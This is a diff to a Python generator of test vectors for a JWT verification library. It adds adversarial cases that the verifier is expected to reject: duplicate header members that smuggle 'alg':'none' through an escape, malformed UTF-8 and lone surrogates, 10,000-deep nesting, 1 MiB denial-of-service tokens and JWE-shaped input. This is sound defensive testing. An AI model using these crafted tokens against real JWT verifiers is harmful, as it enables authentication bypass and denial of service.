+       unsure="exp 1e308 (finite, absurdly far future): accepted")
+    # 10^20 rather than 2^64: both overflow every 64-bit integer type, but 10^20 is also exactly what JS
+    # prints for that double, so the cross-runtime diff compares like with like.
+    ok(g, "type-exp-1e20-integer-ok", "[claim type confusion] exp 100000000000000000000 (an integer literal "
+       "past every 64-bit integer type) is a JSON number in the future: accepted, not wrapped to a negative "
+       "time (RFC 7519 §2)", raw_claims(b'{"sub":"u","exp":100000000000000000000}'),
+       claims={"sub": "u", "exp": 10 ** 20}, unsure="exp 10^20 (integer literal beyond u64): accepted")
+    err(g, "type-exp-1e-400-underflow", "[claim type confusion] exp 1e-400 underflows to 0 (1970): expired, not "
+        "an error-free 'no expiry' (RFC 7519 §2)", "expired", raw_claims(b'{"sub":"u","exp":1e-400}'),
+        unsure="exp 1e-400: read as 0 (expired) rather than malformed")
+
+    # --- duplicate member names (RFC 7515 §5.2, RFC 7519 §4, RFC 8259 §4) ----------------------------------
+    dup = "[duplicate members] parsers disagree on which duplicate wins, so duplicates are refused (RFC 7515 §5.2)"
+    for name, part, body, why in [
+        ("header-kid", "h", b'{"alg":"HS256","kid":"h1","kid":"rsa-a"}', "kid twice in the header"),
+        ("header-alg-via-escape", "h", b'{"alg":"none","\\u0061lg":"HS256"}', "alg and its escaped spelling"),
+        ("header-nested", "h", b'{"alg":"HS256","x":{"b":1,"b":2}}', "a duplicate inside a header object"),
+        ("payload-a-b", "p", b'{"a":{"b":1,"b":2}}', "{\"a\":{\"b\":1,\"b\":2}}"),
+        ("payload-deep", "p", b'{"sub":"u","a":{"b":[{"c":{"d":{"e":1,"e":1}}}]}}', "a duplicate five levels down"),
+        ("payload-aud", "p", b'{"sub":"u","aud":"other","aud":"api"}', "aud twice"),
+        ("payload-iss", "p", b'{"sub":"u","iss":"https://evil.example","iss":"https://issuer.example"}',
+         "iss twice"),
+        ("payload-raw-utf8-vs-escape", "p", '{"sub":"u","é":1,"\\u00e9":2}'.encode(),
+         "'é' raw and as '\\u00e9'"),
+        ("payload-surrogate-pair-vs-raw", "p", '{"sub":"u","😀":1,"\\ud83d\\ude00":2}'.encode(),
+         "an emoji raw and as a surrogate-pair escape"),
+    ]:
+        tok = mac(s32, header=body) if part == "h" else raw_claims(body)
+        key, o = (kid_set, kid_opts) if name == "header-kid" else (None, None)
+        err(g, f"duplicate-{name}", f"{dup}: {why}", "malformed", tok, key=key, options=o)
+    ok(g, "duplicate-not-after-normalisation-ok", "[duplicate members] 'é' (U+00E9) and 'e\\u0301' are different "
+       "member names: no Unicode normalisation (RFC 8259 §8.3)", raw_claims('{"é":1,"e\u0301":2}'.encode()),
+       claims={"é": 1, "e\u0301": 2})
+
+    # --- non-UTF-8 (RFC 8259 §8.1, RFC 7515 §5.2) --------------------------------------------------------
+    for name, part, body, why in [
+        ("member-name", "p", b'{"sub":"u","\xff":1}', "0xFF in a member name"),
+        ("truncated-sequence", "p", b'{"sub":"\xe6\x9d"}', "a 3-byte sequence cut after 2 bytes"),
+        ("above-u10ffff", "p", b'{"sub":"\xf4\x90\x80\x80"}', "F4 90 80 80 (above U+10FFFF)"),
+        ("five-byte-sequence", "p", b'{"sub":"\xf8\x88\x80\x80\x80"}', "an obsolete 5-byte sequence"),
+        ("lone-continuation", "p", b'{"sub":"\x80"}', "a lone continuation byte"),
+        ("modified-utf8-nul", "p", b'{"sub":"a\xc0\x80"}', "C0 80 (Java modified UTF-8 NUL)"),
+        ("latin1-kid", "h", b'{"alg":"HS256","kid":"cl\xe9"}', "a Latin-1 byte in the header kid"),
+        ("utf16le-bom", "p", '\ufeff{"sub":"u"}'.encode("utf-16-le"), "UTF-16LE JSON with a BOM"),
+        ("utf16be-no-bom", "p", '{"sub":"u"}'.encode("utf-16-be"), "UTF-16BE JSON"),
+        ("deep-in-private-claim", "p", b'{"sub":"u","x":[{"y":["ok","\xc3"]}]}',
+         "a truncated sequence deep inside a private claim"),
+    ]:
+        tok = mac(s32, header=body) if part == "h" else raw_claims(body)
+        err(g, f"non-utf8-{name}", f"[non-UTF-8] {why}: header and payload must be UTF-8 JSON (RFC 8259 §8.1)",
+            "malformed", tok)
+
+    # --- lone surrogate escapes (RFC 8259 §8.2) -----------------------------------------------------------
+    for name, part, body, why in [
+        ("header-kid", "h", b'{"alg":"HS256","kid":"\\ud800"}', "a lone high surrogate in the header kid"),
+        ("member-name", "p", b'{"\\udfff":1,"sub":"u"}', "a lone low surrogate as a member name"),
+        ("high-then-non-low-escape", "p", b'{"sub":"\\ud800\\u0041"}', "a high surrogate followed by \\u0041"),
+        ("two-high", "p", b'{"sub":"\\ud800\\ud800"}', "two high surrogates"),
+        ("high-then-char", "p", b'{"sub":"\\ud83dx"}', "a high surrogate followed by a plain character"),
+        ("high-at-end", "p", b'{"sub":"abc\\udbff"}', "a high surrogate closing the string"),
+        ("in-array", "p", b'{"sub":"u","a":["\\udc00"]}', "a lone low surrogate inside an array"),
+        ("uppercase-hex", "p", b'{"sub":"\\uD800"}', "a lone surrogate in upper-case hex"),
+    ]:
+        tok = mac(s32, header=body) if part == "h" else raw_claims(body)
+        err(g, f"lone-surrogate-{name}", f"[lone surrogate] {why}: not a Unicode scalar value, so not valid "
+            "text (RFC 8259 §8.2)", "malformed", tok)
+
+    # --- 10,000-deep nesting (RFC 8259 §9: implementations may limit depth; onejwt caps it at 32) -----------
+    big = 1_000_000
+    deep = b"[" * 10000 + b"]" * 10000
+    depth = "[deep nesting] stack-exhaustion attempt"
+    tok = raw_claims(b'{"sub":"u","deep":' + deep + b"}")
+    assert len(tok) > 16384
+    err(g, "depth-10000-arrays-in-claims", f"{depth}: 10,000 nested arrays in the claims, with max_token_bytes "
+        "raised so that the depth cap (32) is what refuses it", "malformed", tok, options=opts(max_token_bytes=big))
+    tok = mac(s32, header=b'{"alg":"HS256","x":' + deep + b"}")
+    err(g, "depth-10000-arrays-in-header", f"{depth}: 10,000 nested arrays in the header, max_token_bytes "
+        "raised", "malformed", tok, options=opts(max_token_bytes=big))
+    tok = raw_claims(b'{"sub":"u","deep":' + b"[" * 10000 + b"}")
+    assert len(tok) <= 16384
+    err(g, "depth-10000-unterminated-in-claims", f"{depth}: 10,000 unclosed arrays in the claims fit the default "
+        "16 KiB limit; refused by the depth cap", "malformed", tok)
+    tok = mac(s32, header=b'{"alg":"HS256","x":' + b"[" * 10000 + b"}")
+    assert len(tok) <= 16384
+    err(g, "depth-10000-unterminated-in-header", f"{depth}: 10,000 unclosed arrays in the header within the "
+        "default limit", "malformed", tok)
+    tok = raw_claims(b'{"sub":"u","deep":' + b'{"a":' * 2500 + b"1" + b"}" * 2500 + b"}")
+    err(g, "depth-2500-objects-in-claims", f"{depth}: 2,500 nested objects, max_token_bytes raised", "malformed",
+        tok, options=opts(max_token_bytes=big))
+    assert b64u(b'{"aa":') == "eyJhYSI6" and b64u(b"[[[") == "W1tb"
+    err(g, "depth-10000-claims-default-limit", f"{depth}: a claims segment opening 15,000 arrays is over the "
+        "default 16 KiB limit: token_too_large before any parsing", "token_too_large",
+        token_repeat={"prefix": h0 + ".eyJhYSI6", "fill": "W1tb", "count": 5000})
+    err(g, "depth-10000-header-default-limit", f"{depth}: a header segment opening 15,000 arrays is over the "
+        "default limit", "token_too_large", token_repeat={"prefix": "eyJhYSI6", "fill": "W1tb", "count": 5000})
+    add(g, "depth-10000-unterminated-decode", f"{depth}: decode_unverified applies the same depth cap",
+        {"error": "malformed"}, token=raw_claims(b'{"sub":"u","deep":' + b"[" * 10000 + b"}"), kind="decode")
+
+    # --- 1 MB tokens: refused by size before any decoding ------------------------------------------------
+    mb = 1 << 20
+    size = "[1 MB token] denial of service: the 16 KiB default limit is checked before any decoding"
+    for name, prefix, fill, count, why in [
+        ("garbage", "", "A", mb, "1 MiB of 'A'"),
+        ("valid-header-prefix", h0 + ".", "A", mb, "a valid header then 1 MiB"),
+        ("alg-none-prefix", b64u(b'{"alg":"none"}') + ".", "e", mb, "an alg-none header then 1 MiB"),
+        ("dots", "", ".", mb, "1 MiB of '.' (a million segments)"),
+        ("nul-bytes", "", "\u0000", mb, "1 MiB of NUL"),
+        ("multibyte", "", "é", mb // 2, "512 Ki 'é' = 1 MiB of UTF-8"),
+        ("open-brackets", h0 + ".eyJhYSI6", "W1tb", mb // 4, "a claims segment opening 786,432 arrays"),
+    ]:
+        err(g, f"size-1mb-{name}", f"{size}: {why}", "token_too_large",
+            token_repeat={"prefix": prefix, "fill": fill, "count": count})
+    err(g, "size-1mb-keyset", f"{size}: 1 MiB against a JWKS verifier", "token_too_large",
+        token_repeat={"prefix": h0 + ".", "fill": "A", "count": mb}, key=kid_set, options=kid_opts)
+    err(g, "size-1mb-raised-limit-reaches-structure", f"{size}: with max_token_bytes raised to 2,000,000 the "
+        "1 MiB token is parsed, and refused for having two segments", "malformed",
+        token_repeat={"prefix": h0 + ".", "fill": "A", "count": mb}, options=opts(max_token_bytes=2_000_000))
+    add(g, "size-1mb-decode", f"{size}: decode_unverified too", {"error": "token_too_large"},
+        token_repeat={"prefix": h0 + ".", "fill": "A", "count": mb}, kind="decode")
+
+    # --- JWE-shaped and JSON-serialised input (RFC 7516 §9, RFC 7515 §7.2) -------------------------------
+    jwe = "[JWE-shaped input] a JWE is not a JWS; five segments are refused before any key use (RFC 7516 §9)"
+    iv, ct, tag = b64u(b"0123456789ab"), b64u(b"ciphertext"), b64u(b"t" * 16)
+    jwe_dir = f"{b64u(cjson({'alg': 'dir', 'enc': 'A256GCM'}))}..{iv}.{ct}.{tag}"
+    err(g, "jwe-dir-empty-encrypted-key", f"{jwe}: alg dir with an empty encrypted-key segment", "malformed",
+        jwe_dir)
+    jwe_hs = f"{b64u(cjson({'alg': 'HS256', 'enc': 'A128CBC-HS256'}))}.{b64u(b'k' * 32)}.{iv}.{ct}.{tag}"
+    err(g, "jwe-header-alg-hs256", f"{jwe}: a JWE header naming alg HS256", "malformed", jwe_hs)
+    err(g, "jwe-rsa-oaep-vs-rsa-key", f"{jwe}: RSA-OAEP JWE against an RSA verifier", "malformed",
+        f"{b64u(cjson({'alg': 'RSA-OAEP', 'enc': 'A256GCM'}))}.{b64u(bytes(256))}.{iv}.{ct}.{tag}",
+        key=k_pem("rsa2048"), options=opts("RS256"))
+    add(g, "jwe-decode", f"{jwe}: decode_unverified refuses it too", {"error": "malformed"}, token=jwe_dir,
+        kind="decode")
+    enc_hdr = {"alg": "HS256", "enc": "A256GCM", "typ": "JWT"}
+    ok(g, "jws-with-enc-header-ok", "[JWE-shaped input] a three-segment HS256 JWS whose header also carries "
+       "'enc': RFC 7516 §9 calls a header with enc a JWE, but the token is a correctly MACed compact JWS; enc is "
+       "an unknown header parameter to a JWS verifier and is ignored", build(enc_hdr, c), header=enc_hdr,
+       unsure="3-segment JWS with an 'enc' header: accepted (enc ignored) rather than malformed")
+    flattened = json.dumps({"protected": h0, "payload": p0, "signature": s0})
+    err(g, "json-serialization-flattened", "[JSON serialisation] a flattened JWS JSON object (RFC 7515 §7.2.2) "
+        "where a compact token is expected", "malformed", flattened)
+    general = json.dumps({"payload": p0, "signatures": [{"protected": h0, "signature": s0}]})
+    err(g, "json-serialization-general", "[JSON serialisation] a general JWS JSON object (RFC 7515 §7.2.1)",
+        "malformed", general)
+
+
 # ==========================================================================================================
 # cross-checks with PyJWT / cryptography
 # ==========================================================================================================
@@ -1980,21 +2521,54 @@ def cross_check() -> None:
 # ==========================================================================================================
 
 GROUP_FUNCS = [g_structure, g_algorithms, g_crit, g_header, g_typ, g_key, g_keyset, g_signature, g_claims,
-               g_time, g_issuer, g_audience, g_options, g_rfc, g_interop, g_sign, g_decode]
+               g_time, g_issuer, g_audience, g_options, g_rfc, g_interop, g_sign, g_decode, g_adversarial]
+SERVICE_GROUP = "service"  # built by service_cases.py, not by a g_* function
+
+
+def parse_only(argv: list[str]) -> set[str] | None:
+    """The groups named by `--only a,b` (or `--only a --only b`); None when the option is absent."""
+    only: set[str] = set()
+    seen = False
+    for i, arg in enumerate(argv):
+        value = None
+        if arg == "--only":
+            if i + 1 >= len(argv):
+                raise SystemExit("generate.py: --only needs a comma-separated list of groups")
+            value = argv[i + 1]
+        elif arg.startswith("--only="):
+            value = arg.split("=", 1)[1]
+        if value is not None:
+            seen = True
+            only.update(name for name in value.split(",") if name)
+    if not seen:
+        return None
+    known = {fn.__name__.removeprefix("g_") for fn in GROUP_FUNCS} | {SERVICE_GROUP}
+    unknown = sorted(only - known)
+    if unknown or not only:
+        raise SystemExit(f"generate.py: unknown group(s) {unknown} for --only; known: {sorted(known)}")
+    return only
 
 
 def main() -> int:
+    # `--only g1,g2` rebuilds just those groups and leaves every other folder untouched: a full run re-signs
+    # the ES*/PS* cases with new random signatures, which churns files nobody changed.
+    only = parse_only(sys.argv[1:])
     load_or_create_keys()
     for fn in GROUP_FUNCS:
-        fn()
+        if only is None or fn.__name__.removeprefix("g_") in only:
+            fn()
     cross_check()
-    CASES.update(service_cases())
+    if only is None or SERVICE_GROUP in only:
+        CASES.update(service_cases())
+    if only is not None:  # each g_* function writes only its own group; check it
+        stray = sorted(cid for cid in CASES if cid.split("/")[0] not in only)
+        assert not stray, f"--only {sorted(only)} built cases of other groups: {stray[:5]}"
 
     groups = sorted({cid.split("/")[0] for cid in CASES})
     assert "keys" not in groups  # tests/vectors/keys/ holds key material, never cases
-    for d in HERE.iterdir():  # delete every old group folder (folders holding only .json case files)
+    for d in HERE.iterdir():  # delete the old folders being rebuilt (folders holding only .json case files)
         if d.is_dir() and d.name != "keys" and not d.name.startswith((".", "_")) and \
-                all(f.suffix == ".json" for f in d.iterdir()):
+                (only is None or d.name in only) and all(f.suffix == ".json" for f in d.iterdir()):
             shutil.rmtree(d)
     for cid, case in CASES.items():
         group, name = cid.split("/")
